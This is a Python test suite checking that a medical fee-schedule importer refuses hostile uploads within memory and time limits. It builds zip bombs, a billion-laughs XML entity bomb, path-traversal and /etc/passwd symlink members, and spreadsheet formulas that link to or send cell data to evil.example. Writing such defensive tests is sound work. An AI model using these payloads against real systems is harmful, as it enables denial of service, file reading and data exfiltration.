"""Malicious files: refused with a clear message, within limits of memory and time."""

import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import psutil
import pytest
import xlsxwriter

from tests import making
from tests.codes.importing.test_killed_jobs import END, Browser
from tests.working import ROOT, kill_all, start_server

NAME = "PPRRVU2026_Jan_nonQPP.csv"
CSV = making.pprrvu_csv([making.row("20610", work_rvu="0.77")])
XLSX_NAME = "PPRRVU2026_Jan_nonQPP.xlsx"
# Memory a process may use above its baseline, in MB. The worst of these files takes 190.
MAX_MB = 250
MAX_SECONDS = 60


def read(path, name=None):
    """Read the file in a separate process; return its result, memory and time."""
    command = [sys.executable, "-m", "tests.codes.importing.hostile_reader", str(path), name or path.name]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=MAX_SECONDS, check=False)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    sys.stdout.write(f"{path.name}: {answer['peak_mb']:.0f} MB, {answer['seconds']:.2f} s, {answer['error'][:100]}\n")
    assert answer["peak_mb"] < MAX_MB
    return answer


def zip_with(path, *members, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


def zip_bomb(path):
    """A gigabyte of zeros compressed to a megabyte, as the PPRRVU file."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(NAME, "w") as member:
        for _ in range(1024):
            member.write(bytes(1024 * 1024))
    return path


def too_large_together(path):
    """Each file is within its limit, together they aren't."""
    names = (NAME, "PPRRVU2026_Jan_QPP.csv", "GPCI2026.csv", "ANES2026.csv", "26LOCCO.csv", "OPPSCAP_JAN.csv")
    return zip_with(path, *((name, bytes(31 * 1024 * 1024)) for name in names))


def bomb_with_a_false_size(path):
    """A bomb whose header declares ten bytes."""
    data = bytearray(zip_bomb(path).read_bytes())
    start = data.index(b"PK\x01\x02") + 24
    data[start : start + 4] = (10).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def encrypted(path):
    data = bytearray(zip_with(path, (NAME, CSV)).read_bytes())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(data))
    return path


def invalid_utf8_name(path):
    """A member name flagged as UTF-8 that isn't valid UTF-8."""
    data = zip_with(path, ("PPRRVUé26_Jan_nonQPP.csv", CSV)).read_bytes()
    path.write_bytes(data.replace("é".encode(), b"\xff\xfe"))
    return path


def symbolic_link(path):
    info = zipfile.ZipInfo(NAME)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zip_with(path, (info, "/etc/passwd"))


def nested_zip(path):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(NAME, CSV)
    return zip_with(path, ("inner.zip", stream.getvalue()))


def duplicate_member(path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        return zip_with(path, (NAME, CSV), (NAME, CSV))


def zeros(path):
    """A sparse file: a gigabyte of zeros that takes no disk space."""
    with path.open("wb") as file:
        file.truncate(1024**3)
    return path


def wrong_rows(path):
    """A file of nearly the maximum size in which every row is wrong."""
    line = (b"9x,,A,?" + b"," * 28 + b"\r\n") * 1000
    return zip_with(path, (NAME, CSV + line * (31 * 1024 * 1024 // len(line))))


def no_header(path):
    """Millions of one-character lines without a header."""
    return zip_with(path, (NAME, b"1\n" * (15 * 1024 * 1024)))


def one_cell(path):
    """One cell of nearly the maximum file size."""
    return zip_with(path, (NAME, b'"' + b"x" * (31 * 1024 * 1024)))


def picture(path):
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(1000))
    return path


def sheet_bomb(path):
    """A spreadsheet whose sheet expands to a gigabyte of spaces."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(1024):
                member.write(b" " * 1024 * 1024)
    return path


def billion_laughs_sheet(path):
    """XML entities that expand a billion times."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    data = making.xlsx_bytes(making.pprrvu_cells([making.row("20610")]))
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(path, "w") as archive:
        for info in source.infolist():
            text = source.read(info)
            if info.filename == "xl/sharedStrings.xml":
                text = text.replace(b"<sst", f"<!DOCTYPE sst [{entities}]><sst".encode(), 1)
                text = text.replace(b"<t>20610</t>", b"<t>&a9;</t>", 1)
            archive.writestr(info, text)
    return path


def shared_text_sheet(path):
    """A text of 90 kB that 50,000 cells share: 300 kB that ask for 4 GB."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        for n in range(50_000):
            sheet.write(n, 0, "LONG")
    with zipfile.ZipFile(path) as archive:
        parts = [(name, archive.read(name).replace(b"LONG", b"x" * 90_000)) for name in archive.namelist()]
    return zip_with(path, *parts)


HOSTILE = [
    (zip_bomb, "rvu26a.zip", "is larger than 32 MB uncompressed"),
    (too_large_together, "rvu26a.zip", "the files in it exceed 100 MB uncompressed"),
    (bomb_with_a_false_size, "rvu26a.zip", "is damaged or truncated"),
    (encrypted, "rvu26a.zip", "is encrypted"),
    (invalid_utf8_name, "rvu26a.zip", "is not a readable zip file"),
    (symbolic_link, "rvu26a.zip", "is a symbolic link, which is not followed"),
    (nested_zip, "rvu26a.zip", "found: inner.zip (a zip inside a zip is not opened)"),
    (duplicate_member, "rvu26a.zip", "has two members with the same name"),
    (
        lambda path: zip_with(path, (f"../{NAME}", CSV)),
        "rvu26a.zip",
        "a member name that points outside the archive",
    ),
    (
        lambda path: zip_with(path, (f"C:\\{NAME}", CSV)),
        "rvu26a.zip",
        "a member name that points outside the archive",
    ),
    (lambda path: zip_with(path, *((f"{n}.txt", "") for n in range(10_000))), "rvu26a.zip", "has 10000 members"),
    (lambda path: zip_with(path, *((f"{n}.txt", "") for n in range(25_000))), "rvu26a.zip", "more than 500 members"),
    (zeros, "rvu26a.zip", "is larger than 100 MB"),
    (zeros, NAME, "is larger than 100 MB"),
    (zeros, XLSX_NAME, "is larger than 100 MB"),
    (wrong_rows, "rvu26a.zip", "values: each is not a HCPCS code"),
    (no_header, "rvu26a.zip", "has no header row"),
    (one_cell, "rvu26a.zip", "can't be read as CSV"),
    (picture, "rvu26a.zip", "is not a readable zip file"),
    (picture, NAME, "has NUL bytes"),
    (picture, "scan.png", "is not a file of a CMS release"),
    (sheet_bomb, XLSX_NAME, "is larger than 32 MB uncompressed"),
    (billion_laughs_sheet, XLSX_NAME, ""),
    (shared_text_sheet, XLSX_NAME, "can't be read as XLSX (the reader gave up)"),
]


@pytest.mark.parametrize(("make", "name", "message"), HOSTILE)
def test_a_hostile_file_is_refused_within_limits(tmp_path, make, name, message):
    answer = read(make(tmp_path / name))
    assert answer["error"]
    assert message in answer["error"]
    assert re.match(r"(rvu26a|PPRRVU|scan)", answer["error"])


def test_a_spreadsheet_is_read_by_its_values_and_runs_nothing(tmp_path):
    """Formulas and links to other workbooks are ignored; their cached values are read."""
    path = tmp_path / XLSX_NAME
    cells = making.pprrvu_cells([making.row("20610", work_rvu="0.77"), making.row("27447", work_rvu="19.11")])
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        for line, row in enumerate(cells):
            for column, cell in enumerate(row):
                if line >= making.HEADER_ROWS and cell == "0.77":
                    sheet.write_formula(line, column, "='[http://evil.example/a.xlsx]S'!A1", value=0.77)
                elif line >= making.HEADER_ROWS and cell == "19.11":
                    sheet.write_formula(line, column, '=HYPERLINK("http://evil.example/?"&A1)', value=19.11)
                elif cell:
                    sheet.write(line, column, cell)
    answer = read(path)
    assert (answer["error"], answer["rows"]) == ("", [["20610", "0.77"], ["27447", "19.11"]])


@pytest.mark.django_db(transaction=True)
def test_a_server_receiving_an_oversized_upload_stays_small(staging, rosa):
    """The server reads all 300 MB so the browser can show the error, but keeps none of it in memory."""
    browser = Browser(rosa)
    server, port = start_server()
    try:
        request = browser.begin_upload(port, b"", announced=300 * 1024 * 1024)
        for _ in range(300):
            request.send(bytes(1024 * 1024))
        request.send(END)
        response = request.getresponse()
        assert (response.status, b"The file is larger than 100 MB" in response.read()) == (413, True)
        request.close()
        assert list(staging.iterdir()) == []
        assert max(_peak_mb(pid) for pid in _child_pids(server.pid)) < 250
    finally:
        kill_all(server)


def _child_pids(pid):
    return [child.pid for child in psutil.Process(pid).children(recursive=True)]


def _peak_mb(pid):
    """Peak memory of a process (Linux)."""
    (line,) = [line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith("VmHWM")]
    return int(line.split()[1]) / 1024
